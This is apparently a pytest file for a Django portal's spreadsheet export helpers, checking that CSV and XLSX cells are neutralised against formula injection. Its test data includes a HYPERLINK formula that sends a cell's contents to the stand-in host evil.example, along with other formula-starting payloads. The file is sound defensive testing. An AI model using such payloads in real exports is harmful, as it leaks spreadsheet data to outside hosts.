"""The one helper for formula-safe spreadsheet cells (CSV and XLSX)."""

import io
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from portal.exports import SafeCsvWriter, safe_cell, unsafe_cell, xlsx_append

HOSTILE = ['=HYPERLINK("http://evil.example/?"&B2,"PP Essen")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_starts_a_formula_gets_an_apostrophe_and_reads_back(value):
    assert safe_cell(value) == "'" + value
    assert unsafe_cell(safe_cell(value)) == value


@pytest.mark.parametrize("value", [12, 12.5, Decimal("3.5"), -4, None, "", "Essen", "'schon"])
def test_numbers_empty_cells_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) is value or safe_cell(value) == value
    assert unsafe_cell(value) == value


def test_lazy_text_is_written_as_text():
    assert safe_cell(gettext_lazy("=Zeitraum")) == "'=Zeitraum"


def test_xlsx_cells_are_strings_never_formulas_and_numbers_stay_numbers():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Export")
    xlsx_append(ws, [*HOSTILE, 7, -1.5])
    buffer = io.BytesIO()
    wb.save(buffer)
    cells = list(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())[0]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE) + ["n", "n"]
    assert [c.value for c in cells[-2:]] == [7, -1.5]
    assert all(c.value.startswith("'") for c in cells[: len(HOSTILE)])


def test_csv_writer_neutralises_every_field():
    import csv

    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows([HOSTILE, [1, 2.5]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
    assert rows[0] == ["'" + v for v in HOSTILE]
    assert rows[1] == ["1", "2.5"]
